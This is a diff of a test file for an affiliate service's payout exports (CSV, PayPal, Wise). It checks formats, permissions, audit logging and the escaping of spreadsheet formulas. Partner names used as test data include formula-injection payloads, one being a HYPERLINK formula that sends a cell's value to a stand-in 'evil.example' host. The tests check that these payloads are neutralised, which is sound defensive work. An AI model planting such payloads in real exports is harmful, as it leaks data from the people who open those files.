@@ -1,130 +1,172 @@
 import { expect, test } from 'bun:test'
 import { payout } from '@tributary/contract'
-import { expectRefusal, givenClick, givenLink, unique } from '../support/given.ts'
-import { givenPayingProgram, type PayingProgram } from '../support/money.ts'
+import { expectRefusal, givenClick, givenLink, givenUser, unique } from '../support/given.ts'
+import { givenPayingProgram, givenPayoutDetails, givenRole, givenSale, type PayingProgram } from '../support/money.ts'
 import { startTestService } from '../support/service.ts'
 
 const service = await startTestService()
 const REWARD = { lead: { amountCents: 100 }, sale: { percentBps: 1_000, duration: 'lifetime' }, holdDays: 0 }
+const CSV_HEADING =
+  'payout_line_id,partner_id,partner_code,name,email,amount,currency,method,account,holder,status,paid_at,reference,needs_details,destination_held_until,partner_status'
 
-const exported = ({ api, owner }: PayingProgram, payoutId: number, file: string) =>
-  fetch(`${service.url}${api}/payouts/${payoutId}/export?file=${file}`, { headers: { cookie: owner.cookie } })
+const textOf = async (program: PayingProgram, payoutId: number, body: object) => {
+  const answer = await program.file(payoutId, body)
+  expect(answer.status).toBe(200)
+  return answer.text()
+}
 
-test('a payout exports for us, PayPal and Wise, without formulas, only what is open', async () => {
+const wants = (program: PayingProgram, method: string, account: string, partnerId = program.link.partnerId) =>
+  givenPayoutDetails(service, { programId: program.id, partnerId, method, account })
+
+test('a payout exports as an overview, and as the payment file of the method that its partner asked for', async () => {
   const program = await givenPayingProgram(service, REWARD)
   await program.owner.call('PATCH', `${program.api}/partners/${program.link.partnerId}`, {
     name: '=cmd(), "Ltd"',
-    email: 'pay@example.com',
+    email: 'contact@example.com',
   })
   await program.sale({ customer_key: await program.customer(), amount: 123_456, invoice_id: 'in-1' })
   const batch = payout.parse(await program.pay())
-  const file = async (name: string) => (await exported(program, batch.id, name)).text()
   const [line] = batch.lines
-  expect(await file('tributary')).toBe(
-    `payout_line_id,partner_id,partner_code,name,email,amount,currency,method,account,holder\r\n${line?.id},${program.link.partnerId},${program.link.partnerCode},"'=cmd(), ""Ltd""",pay@example.com,124.46,USD,,,\r\n`,
+  const row = (details: string) =>
+    `${line?.id},${program.link.partnerId},${program.link.partnerCode},"'=cmd(), ""Ltd""",contact@example.com,124.46,USD,${details}\r\n`
+  expect(await textOf(program, batch.id, { format: 'csv' })).toBe(
+    `${CSV_HEADING}\r\n${row(',,,open,,,true,,approved')}`,
   )
-  expect(await file('paypal')).toBe(
+  await wants(program, 'paypal', 'pay@example.com')
+  expect(await textOf(program, batch.id, { format: 'csv', currency: 'usd' })).toBe(
+    `${CSV_HEADING}\r\n${row('paypal,pay@example.com,Maya,open,,,false,,approved')}`,
+  )
+  expect(await textOf(program, batch.id, { format: 'paypal' })).toBe(
     `pay@example.com,124.46,USD,payout-${batch.id}-${line?.id},Partner commission,PayPal\r\n`,
   )
-  expect(await file('wise')).toBe(
-    `name,recipientEmail,paymentReference,amountCurrency,amount,sourceCurrency,targetCurrency,type\r\n"'=cmd(), ""Ltd""",pay@example.com,payout-${batch.id}-${line?.id},target,124.46,USD,USD,EMAIL\r\n`,
+})
+
+test('a Wise file has the columns that Wise reads', async () => {
+  const program = await givenPayingProgram(service, REWARD)
+  await givenSale(program, 10_000)
+  await wants(program, 'wise', 'pay@example.com')
+  const batch = payout.parse(await program.pay())
+  expect(await textOf(program, batch.id, { format: 'wise' })).toBe(
+    `name,recipientEmail,paymentReference,amountCurrency,amount,sourceCurrency,targetCurrency,type\r\nPartner,pay@example.com,payout-${batch.id}-${batch.lines[0]?.id},target,11.00,USD,USD,EMAIL\r\n`,
   )
-  for (const name of ['bank', '__proto__', 'toString'])
-    expectRefusal(
-      await program.owner.call('GET', `${program.api}/payouts/${batch.id}/export?file=${name}`),
-      400,
-      'invalid_request',
-    )
-  await program.decide(batch.id, line?.id ?? 0, { status: 'paid' })
-  expect((await file('tributary')).trim().split('\r\n')).toHaveLength(1)
+})
+
+test('an export is a POST with a known format, by a member who may pay', async () => {
+  const program = await givenPayingProgram(service, REWARD)
+  await givenSale(program, 1_000)
+  const { id } = await program.pay()
+  const path = `${program.api}/payouts/${id}/export`
+  expectRefusal(await program.owner.call('GET', path), 405, 'method_not_allowed')
+  for (const body of [{}, { format: 'bank' }, { format: '__proto__' }, { format: 'csv', currency: 'XYZ' }])
+    expectRefusal(await program.owner.call('POST', path, body), 400, 'invalid_request')
+  for (const role of ['member', 'viewer']) {
+    const colleague = await givenUser(service)
+    await givenRole(service, program.workspaceId, colleague, role)
+    expectRefusal(await colleague.call('POST', path, { format: 'csv' }), 403, 'forbidden')
+  }
+  const [line] = await service.db.selectFrom('payoutLines').selectAll().where('payoutId', '=', id).execute()
+  expect(line?.exportedCents).toBeNull()
+})
+
+test('every export is in the audit log, with what the file said', async () => {
+  const program = await givenPayingProgram(service, REWARD)
+  await givenSale(program, 1_000)
+  await wants(program, 'paypal', 'pay@example.com')
+  const { id, lines } = await program.pay()
+  await program.file(id, { format: 'paypal' })
+  await program.file(id, { format: 'wise' })
+  const { data } = (await program.owner.call('GET', `${program.api}/audit?search=payout+exported`)).body
+  expect(data).toMatchObject([
+    {
+      subject: `payout ${id}`,
+      after: {
+        format: 'paypal',
+        lines: [{ id: lines[0].id, amountCents: 200, currency: 'USD', account: 'pay@example.com' }],
+      },
+    },
+  ])
 })
 
 test('no cell of any file of a payout is a formula, whatever a partner is called', async () => {
-  const program = await givenPayingProgram(service, REWARD)
-  await program.sale({ customer_key: await program.customer(), amount: 1_000, invoice_id: 'in-1' })
-  const { id } = await program.pay()
-  for (const name of ['=1+1', '+1+1', '-1+1', '@SUM(1)', '=HYPERLINK("https://evil.example/?"&B2,"Ltd")'])
-    for (const file of ['tributary', 'paypal', 'wise']) {
-      const partner = { name, email: 'pay@example.com' }
+  for (const format of ['csv', 'paypal', 'wise']) {
+    const program = await givenPayingProgram(service, REWARD)
+    await program.sale({ customer_key: await program.customer(), amount: 1_000, invoice_id: 'in-1' })
+    await wants(program, format === 'wise' ? 'wise' : 'paypal', 'pay@example.com')
+    const { id } = await program.pay()
+    for (const name of ['=1+1', '+1+1', '-1+1', '@SUM(1)', '=HYPERLINK("https://evil.example/?"&B2,"Ltd")']) {
+      const partner = { name, email: 'contact@example.com' }
       await program.owner.call('PATCH', `${program.api}/partners/${program.link.partnerId}`, partner)
-      const answer = await exported(program, id, file)
-      expect(answer.status).toBe(200)
-      const cells = (await answer.text()).split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/)
+      const cells = (await textOf(program, id, { format })).split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/)
       expect(cells.length).toBeGreaterThan(5)
       expect(cells.filter((cell) => /^"?[=+\-@\t\r]/.test(cell))).toEqual([])
     }
+  }
 })
 
-test('a file pays to the account that a partner has named, and nobody who wants to be paid another way', async () => {
+test('a payment file pays to the account in the payout details, or leaves out a partner whose account is no address', async () => {
   const program = await givenPayingProgram(service, REWARD)
-  const partner = `${program.api}/partners/${program.link.partnerId}`
-  await program.owner.call('PATCH', partner, { email: 'contact@example.com' })
+  await program.owner.call('PATCH', `${program.api}/partners/${program.link.partnerId}`, { email: 'c@example.com' })
   await program.sale({ customer_key: await program.customer(), amount: 1_000, invoice_id: 'in-1' })
   const { id } = await program.pay()
-  const wants = (method: string, account: string) =>
-    service.db
-      .insertInto('partnerPayoutDetails')
-      .values({
-        ...{ programId: program.id, partnerId: program.link.partnerId, method, account, holder: 'Maya', note: null },
-        updatedAt: new Date(),
-      })
-      .onConflict((conflict) => conflict.columns(['programId', 'partnerId']).doUpdateSet({ method, account }))
-      .execute()
-  await wants('paypal', 'wallet@example.com')
-  expect(await (await exported(program, id, 'paypal')).text()).toStartWith('wallet@example.com,')
-  const answer = await exported(program, id, 'wise')
-  expect(answer.status).toBe(409)
-  expect(await answer.text()).toContain('Partner (paypal)')
-  // One character more would be somebody else's address, so it stays as it is.
-  await wants('paypal', '+wallet@example.com')
-  expect(await (await exported(program, id, 'paypal')).text()).toStartWith('+wallet@example.com,')
   for (const method of ['paypal', 'wise'])
     for (const account of ['not an address', '=HYPERLINK("https://evil.example/","me@example.com")', '@SUM(1)']) {
-      await wants(method, account)
-      expect((await exported(program, id, method)).status).toBe(409)
+      await wants(program, method, account)
+      const refused = await program.file(id, { format: method })
+      expect(refused.status).toBe(409)
+      expect(await refused.text()).toContain('Needs details: Partner')
+      expect((await program.owner.call('GET', `${program.api}/payouts/${id}`)).body.data.lines).toMatchObject([
+        { needsDetails: true },
+      ])
     }
-  expect((await exported(program, id, 'tributary')).status).toBe(200)
-  await wants('bank', 'DE89370400440532013000')
-  expect(await (await exported(program, id, 'tributary')).text()).toEndWith('USD,bank,DE89370400440532013000,Maya\r\n')
+  await wants(program, 'bank', 'DE89370400440532013000')
+  expect(await textOf(program, id, { format: 'csv' })).toContain(',USD,bank,DE89370400440532013000,Maya,open,')
+  // With one more character it would be another address.
+  await wants(program, 'paypal', '+wallet@example.com')
+  expect(await textOf(program, id, { format: 'paypal' })).toStartWith('+wallet@example.com,')
 })
 
-test('where one partner wants PayPal and another Wise, each is in the file of theirs, and noted as handed out there alone', async () => {
+test('a line is in the file of one method; one without payout details is in no payment file and needs details', async () => {
   const program = await givenPayingProgram(service, REWARD)
   const others = [await givenLink(service, program.id), await givenLink(service, program.id)]
-  const wishes = { paypal: program.link, wise: others[0], none: others[1] }
-  for (const [method, link] of Object.entries(wishes)) {
+  const methods = { paypal: program.link, wise: others[0], none: others[1] }
+  for (const [method, link] of Object.entries(methods)) {
     const partnerId = link?.partnerId ?? 0
     await program.owner.call('PATCH', `${program.api}/partners/${partnerId}`, { email: `${method}@example.com` })
-    const details = { account: `${method}-wallet@example.com`, holder: 'H', note: null, updatedAt: new Date() }
-    if (method !== 'none')
-      await service.db
-        .insertInto('partnerPayoutDetails')
-        .values({ programId: program.id, partnerId, method, ...details })
-        .execute()
+    if (method !== 'none') await wants(program, method, `${method}-wallet@example.com`, partnerId)
     const customer_key = unique('customer')
     if (link) await program.lead({ customer_key, click_id: await givenClick(service, link) })
     await program.sale({ customer_key, amount: 1_000, invoice_id: `in-${method}` })
   }
   const { id } = await program.pay()
-  const paidBy = async (file: string) => {
-    const text = await (await exported(program, id, file)).text()
-    return text.match(/[\w-]+@example.com/g)?.toSorted()
-  }
-  const handedOut = async () => {
+  const paidBy = async (format: string) =>
+    (await textOf(program, id, { format })).match(/[\w-]+@example.com/g)?.toSorted()
+  const exported = async () => {
     const lines = await service.db.selectFrom('payoutLines').selectAll().where('payoutId', '=', id).execute()
     return lines.filter(({ exportedCents }) => exportedCents !== null).length
   }
-  expect(await paidBy('paypal')).toEqual(['none@example.com', 'paypal-wallet@example.com'])
-  expect(await handedOut()).toBe(2)
-  expect(await paidBy('wise')).toEqual(['none@example.com', 'wise-wallet@example.com'])
-  expect(await handedOut()).toBe(3)
+  expect(await paidBy('paypal')).toEqual(['paypal-wallet@example.com'])
+  expect(await exported()).toBe(1)
+  expect(await paidBy('wise')).toEqual(['wise-wallet@example.com'])
+  expect(await exported()).toBe(2)
+  const { lines } = payout.parse((await program.owner.call('GET', `${program.api}/payouts/${id}`)).body.data)
+  const told = lines.map(({ partnerId, method, needsDetails }) => ({ partnerId, method, needsDetails }))
+  expect(told).toEqual([
+    { partnerId: methods.paypal.partnerId, method: 'paypal', needsDetails: false },
+    { partnerId: methods.wise?.partnerId ?? 0, method: 'wise', needsDetails: false },
+    { partnerId: methods.none?.partnerId ?? 0, method: null, needsDetails: true },
+  ])
+  const { data } = (await program.owner.call('GET', `${program.api}/payouts/${id}/lines?sort=amountCents`)).body
+  expect(data.filter(({ needsDetails }: { needsDetails: boolean }) => needsDetails)).toHaveLength(1)
 })
 
-test('a file that its receiver would refuse is not made', async () => {
+test('a payment file has one currency', async () => {
   const program = await givenPayingProgram(service, REWARD)
+  await wants(program, 'paypal', 'pay@example.com')
   await program.sale({ customer_key: await program.customer(), amount: 1_000, invoice_id: 'in-1', currency: 'EUR' })
   const { id } = await program.pay()
-  const asked = (query: string) => program.owner.call('GET', `${program.api}/payouts/${id}/export?${query}`)
-  expectRefusal(await asked('file=paypal'), 400, 'invalid_request')
-  expectRefusal(await asked('file=paypal&currency=EUR'), 409, 'conflict')
+  const refused = await program.owner.call('POST', `${program.api}/payouts/${id}/export`, { format: 'paypal' })
+  expectRefusal(refused, 400, 'invalid_request')
+  expect(refused.body.error).toMatchObject({ field: 'currency', message: expect.stringContaining('EUR, USD') })
+  expect(await textOf(program, id, { format: 'paypal', currency: 'EUR' })).toContain(',1.00,EUR,')
+  expect((await program.file(id, { format: 'paypal', currency: 'GBP' })).status).toBe(409)
 })
